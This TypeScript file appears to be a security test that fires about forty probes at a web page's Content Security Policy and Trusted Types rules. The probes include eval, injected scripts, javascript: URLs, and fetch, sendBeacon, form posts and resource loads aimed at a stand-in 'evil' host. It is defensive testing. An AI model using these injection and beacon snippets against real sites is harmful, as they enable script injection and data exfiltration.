/**
 * Things that a script of the page must not be able to do, tried one after the other by a file that stands on the same host as the app.
 * Each probe answers whether it went through; what was sent is also counted at the other server.
 */
export const probes = {
  eval: `eval('1'); return 'done'`,
  'new Function': `new Function('return 1')(); return 'done'`,
  'setTimeout of a text': `return waits((go) => { window.pwned = go; setTimeout('pwned()', 0); })`,
  'inline script': `return waits((go) => { window.pwned = go; const s = document.createElement('script'); s.append('pwned()'); document.body.append(s); })`,
  'script text': `const s = document.createElement('script'); s.textContent = '1'; document.body.append(s); return 'done'`,
  'script from evil': `return waits((go, no) => { const s = document.createElement('script'); s.onload = go; s.onerror = no; s.src = evil; document.body.append(s); })`,
  'import from evil': `await import(evil + '/x.js'); return 'done'`,
  'import of data': `await import('data:text/javascript,export default 1'); return 'done'`,
  innerHTML: `const d = document.createElement('div'); d.innerHTML = '<b>x</b>'; return 'done'`,
  outerHTML: `const d = document.createElement('div'); document.body.append(d); d.outerHTML = '<b>x</b>'; return 'done'`,
  insertAdjacentHTML: `document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); return 'done'`,
  'document.write': `document.write('<b>x</b>'); return 'done'`,
  srcdoc: `const f = document.createElement('iframe'); f.srcdoc = '<b>x</b>'; document.body.append(f); return 'done'`,
  DOMParser: `new DOMParser().parseFromString('<b>x</b>', 'text/html'); return 'done'`,
  'event attribute': `return waits((go) => { window.pwned = go; const b = document.createElement('button'); b.setAttribute('onclick', 'pwned()'); document.body.append(b); b.click(); })`,
  'javascript: link': `return waits((go) => { window.pwned = go; const a = document.createElement('a'); a.setAttribute('href', 'javascript:pwned()'); document.body.append(a); a.click(); })`,
  'javascript: frame': `return waits((go) => { window.pwned = go; const f = document.createElement('iframe'); f.setAttribute('src', 'javascript:parent.pwned()'); document.body.append(f); })`,
  'svg script': `return waits((go) => { window.pwned = go; const s = document.createElementNS('http://www.w3.org/2000/svg', 'script'); s.append('pwned()'); const g = document.createElementNS('http://www.w3.org/2000/svg', 'svg'); g.append(s); document.body.append(g); })`,
  'a policy of its own': `trustedTypes.createPolicy('mine', { createHTML: (x) => x }); return 'done'`,
  'the policy of Svelte again': `trustedTypes.createPolicy('svelte-trusted-html', { createHTML: (x) => x }); return 'done'`,
  'img from evil': `return waits((go, no) => { const i = new Image(); i.onload = go; i.onerror = no; i.src = evil + '/beacon.png'; })`,
  'img from data': `return waits((go, no) => { const i = new Image(); i.onload = go; i.onerror = no; i.src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw='; })`,
  'stylesheet from evil': `return waits((go, no) => { const l = document.createElement('link'); l.rel = 'stylesheet'; l.onload = go; l.onerror = no; l.href = evil + '/x.css'; document.head.append(l); })`,
  'font from evil': `await new FontFace('x', 'url(' + evil + '/x.woff)').load(); return 'done'`,
  'style element': `const s = document.createElement('style'); s.textContent = 'body { --pwned: 1 }'; document.head.append(s); return getComputedStyle(document.body).getPropertyValue('--pwned') ? 'done' : 'refused'`,
  'style attribute': `const d = document.createElement('div'); d.setAttribute('style', '--pwned: 1'); document.body.append(d); return getComputedStyle(d).getPropertyValue('--pwned') ? 'done' : 'refused'`,
  'fetch to evil': `await fetch(evil); return 'done'`,
  'opaque fetch to evil': `await fetch(evil, { mode: 'no-cors' }); return 'done'`,
  XMLHttpRequest: `return waits((go, no) => { const x = new XMLHttpRequest(); x.onload = go; x.onerror = no; x.open('GET', evil); x.send(); })`,
  WebSocket: `return waits((go, no) => { const w = new WebSocket(evil.replace('http', 'ws')); w.onopen = go; w.onerror = no; })`,
  EventSource: `return waits((go, no) => { const e = new EventSource(evil); e.onopen = go; e.onerror = no; })`,
  sendBeacon: `navigator.sendBeacon(evil, 'x'); return 'refused'`, // answers true in any case: the other server's books count
  'Worker by address': `new Worker('probe.js'); return 'done'`,
  'Worker from a blob': `new Worker(URL.createObjectURL(new Blob(['1']))); return 'done'`,
  SharedWorker: `new SharedWorker('probe.js'); return 'done'`,
  ServiceWorker: `await navigator.serviceWorker.register('probe.js'); return 'done'`,
  'frame from evil': `const f = document.createElement('iframe'); f.src = evil; document.body.append(f); return 'refused'`, // the books count
  object: `const o = document.createElement('object'); o.data = evil; document.body.append(o); return 'refused'`,
  embed: `const e = document.createElement('embed'); e.src = evil; document.body.append(e); return 'refused'`,
  'audio from evil': `return waits((go, no) => { const a = new Audio(); a.onloadeddata = go; a.onerror = no; a.src = evil + '/x.mp3'; })`,
  'form post': `const f = document.createElement('form'); f.method = 'post'; f.action = evil; document.body.append(f); f.submit(); return 'refused'`,
  'base tag': `const b = document.createElement('base'); b.href = evil; document.head.append(b); return document.baseURI.startsWith(evil) ? 'done' : 'refused'`,
  'link prefetch': `const l = document.createElement('link'); l.rel = 'prefetch'; l.href = evil + '/prefetch'; document.head.append(l); return 'refused'`,
} as const;

export type ProbeName = keyof typeof probes;

const waitMs = 400;

export const probeScript = `
const evil = document.documentElement.getAttribute('data-evil');
const waits = (start) => new Promise((resolve) => {
  setTimeout(() => resolve('refused'), ${waitMs});
  start(() => resolve('done'), () => resolve('refused'));
});
const tries = {
${Object.entries(probes)
  .map(([name, body]) => `  ${JSON.stringify(name)}: async () => { ${body} },`)
  .join('\n')}
};
const found = {};
const skip = document.documentElement.getAttribute('data-skip');
for (const [name, attempt] of Object.entries(tries)) {
  if (name === skip) continue;
  try { found[name] = await attempt(); } catch { found[name] = 'refused'; }
}
await new Promise((resolve) => setTimeout(resolve, ${waitMs}));
document.documentElement.setAttribute('data-found', JSON.stringify(found));
`;
